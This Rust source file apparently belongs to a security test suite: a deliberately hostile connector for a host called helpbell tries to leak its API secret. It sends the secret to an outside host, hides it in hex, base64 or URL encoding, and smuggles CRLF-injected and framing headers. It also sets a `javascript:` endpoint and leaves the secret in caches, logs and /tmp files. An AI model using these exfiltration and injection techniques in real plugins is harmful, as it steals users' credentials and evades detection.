//! Attacks with the secret, which only `authenticate` ever sees.

use crate::host_calls::elsewhere;
use crate::{attack, computing};
use helpbell_connector::bindings::helpbell::psa::{blobs, cache, log};
use helpbell_connector::http::Request;
use helpbell_connector::{Authorization, Call, Failure, Pairs as _, Place, Placement, Secrets};
use std::sync::Mutex;

/// Under which the secret is left for later calls.
const LEFT: &str = "left-by-authenticate";
/// Outlives a call only if an instance does.
static REMEMBERED: Mutex<String> = Mutex::new(String::new());

/// As an honest connector does, or with the attack on top.
pub(crate) fn authenticate(call: &Call<'_>, secrets: &Secrets) -> Result<Authorization, Failure> {
    let attack = attack(call);
    let secret = secrets.required("api-key")?;
    if let Some(attack) = attack.strip_prefix("signing-in-") {
        computing::attack(attack);
    }
    if let Some(form) = attack.strip_prefix("secret-in-failure-") {
        let text = disguise(secret, form);
        return Err(Failure::auth(&text, format!("the key {text} is wrong"))
            .help(format!("renew {text}"))
            .field(&text)
            .fact("key", text.clone()));
    }
    if let Some(form) = attack.strip_prefix("secret-in-panic-") {
        panic!("the key {} is wrong", disguise(secret, form));
    }
    let server = call.setting("server").unwrap_or_default();
    match attack {
        "secret-sent-elsewhere" => {
            let url = format!("http://{}/read?{}", elsewhere(call), disguise(secret, "hex"));
            call.send(Request::get(url).header("authorization", secret))?;
        }
        "secret-sent-with-a-work-request" => {
            call.send(Request::get(format!("{server}/read?{}", disguise(secret, "hex"))))?;
        }
        "secret-sent-to-sign-in" => {
            call.send(
                Request::post(format!("{server}/token"), "text/plain", vec![])
                    .header("authorization", secret),
            )?;
        }
        "secret-left-behind" => leave(secret),
        _ => {}
    }
    Ok(authorization(attack, secret, server, elsewhere(call)))
}

fn authorization(attack: &str, secret: &str, server: &str, elsewhere: &str) -> Authorization {
    let bearer = format!("Bearer {secret}");
    let placed = |origin: &str, place: Place, value: &str| Placement {
        origin: origin.to_owned(),
        place,
        value: value.to_owned(),
    };
    let header = |name: &str, value: &str| placed("psa", Place::Header(name.to_owned()), value);
    let mut placements = vec![header("authorization", &bearer)];
    match attack {
        "placement-crlf" => placements = vec![header("authorization", &format!("{bearer}\r\nx-smuggled: 1"))],
        "placement-crlf-name" => placements = vec![header("x\r\nx-smuggled: 1\r\ny", &bearer)],
        "placement-host" => placements.push(header("host", "smuggled.example")),
        "placement-length" => placements.push(header("Content-Length", "4711")),
        "placement-framing" => placements.push(header("transfer-encoding", "chunked")),
        "placement-proxy" => placements.push(header("proxy-authorization", &bearer)),
        "placement-twice" => placements.push(header("Authorization", "Bearer smuggled")),
        "placement-flood" => {
            placements.extend((0..5_000).map(|number| header(&format!("x-{number}"), "smuggled")));
        }
        "placement-huge" => placements.push(header("x-huge", &"x".repeat(1 << 20))),
        "placement-for-another-origin" => {
            placements.push(placed("files", Place::Header("x-key".to_owned()), &bearer));
        }
        "placement-for-no-origin" => {
            placements.push(placed(
                &format!("http://{elsewhere}"),
                Place::Query("key".to_owned()),
                secret,
            ));
        }
        _ => {}
    }
    let endpoint = match attack {
        "endpoint-outside" => Some(format!("http://{elsewhere}/")),
        "endpoint-of-another-kind" => Some("javascript:alert(1)".to_owned()),
        "endpoint-with-escapes" => Some(crate::answers::ESCAPES.to_owned()),
        "endpoint-huge" => Some(format!("{server}/{}", "x".repeat(1 << 20))),
        "endpoint-secret-as-host" => Some(format!("https://{}.example.net", disguise(secret, "hex"))),
        "endpoint-secret-as-path" => Some(format!("{server}/{}", disguise(secret, "url"))),
        "endpoint-secret-as-base64" => Some(format!("{server}/{}", disguise(secret, "base64"))),
        _ => None,
    };
    let identity = match attack.strip_prefix("secret-in-identity-") {
        Some(form) => disguise(secret, form),
        None if attack == "identity-with-escapes" => crate::answers::ESCAPES.to_owned(),
        None if attack == "identity-huge" => "x".repeat(1 << 20),
        None => "the tester".to_owned(),
    };
    Authorization {
        placements,
        endpoint,
        expires_in_s: Some(3_600),
        identity: Some(identity),
    }
}

/// Puts the secret wherever a later call might find it.
fn leave(secret: &str) {
    cache::put(LEFT, secret.as_bytes(), 3_600);
    log::write(log::Level::Warn, secret);
    if let Ok(mut remembered) = REMEMBERED.lock() {
        secret.clone_into(&mut remembered);
    }
    let _ = std::fs::write("/tmp/helpbell-hostile", secret);
    let _ = blobs::read(0, 0, 1);
    println!("{secret}");
    eprintln!("{secret}");
}

/// What a call that files tickets finds of it.
pub(crate) fn what_came_through(call: &Call<'_>, attack: &str) -> Option<String> {
    let left = || cache::get(LEFT).map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
    if attack == "left-by-a-ticket" {
        // The same way between two calls that may use it: it works there.
        let found = left();
        cache::put(LEFT, b"left by a ticket", 3_600);
        return Some(found.unwrap_or_else(|| "nothing".to_owned()));
    }
    if !attack.starts_with("secret-") && !attack.starts_with("endpoint-") {
        return None;
    }
    let found = [
        left(),
        REMEMBERED
            .lock()
            .ok()
            .map(|text| text.clone())
            .filter(|text| !text.is_empty()),
        std::fs::read_to_string("/tmp/helpbell-hostile").ok(),
        call.endpoint().map(str::to_owned),
        call.settings().value("token:identity").map(str::to_owned),
        call.settings().value("api-key").map(str::to_owned),
    ];
    let found: Vec<String> = found.into_iter().flatten().collect();
    Some(if found.is_empty() {
        "nothing".to_owned()
    } else {
        found.join(" ")
    })
}

/// An examination is told as whom the connector works, and leaves it for the calls that file tickets.
pub(crate) fn examined(call: &Call<'_>, attack: &str) -> Result<(), Failure> {
    if attack.starts_with("secret-in-identity-")
        && let Some(identity) = call.settings().value("token:identity")
    {
        cache::put(LEFT, identity.as_bytes(), 3_600);
    }
    Ok(())
}

/// The secret in a form that a search for it may miss.
fn disguise(secret: &str, form: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    match form {
        "hex" => secret.bytes().map(|byte| format!("{byte:02x}")).collect(),
        "url" => secret.bytes().map(|byte| format!("%{byte:02X}")).collect(),
        "json" => secret
            .chars()
            .map(|c| format!("\\u{:04x}", u32::from(c)))
            .collect(),
        "reversed" => secret.chars().rev().collect(),
        "base64" => {
            let mut text = String::new();
            for group in secret.as_bytes().chunks(3) {
                let bits = group
                    .iter()
                    .fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte))
                    << (8 * (3 - group.len()));
                for place in 0..4 {
                    let digit = DIGITS[(bits >> (18 - 6 * place) & 63) as usize];
                    text.push(if place > group.len() {
                        '='
                    } else {
                        char::from(digit)
                    });
                }
            }
            text
        }
        _ => secret.to_owned(),
    }
}
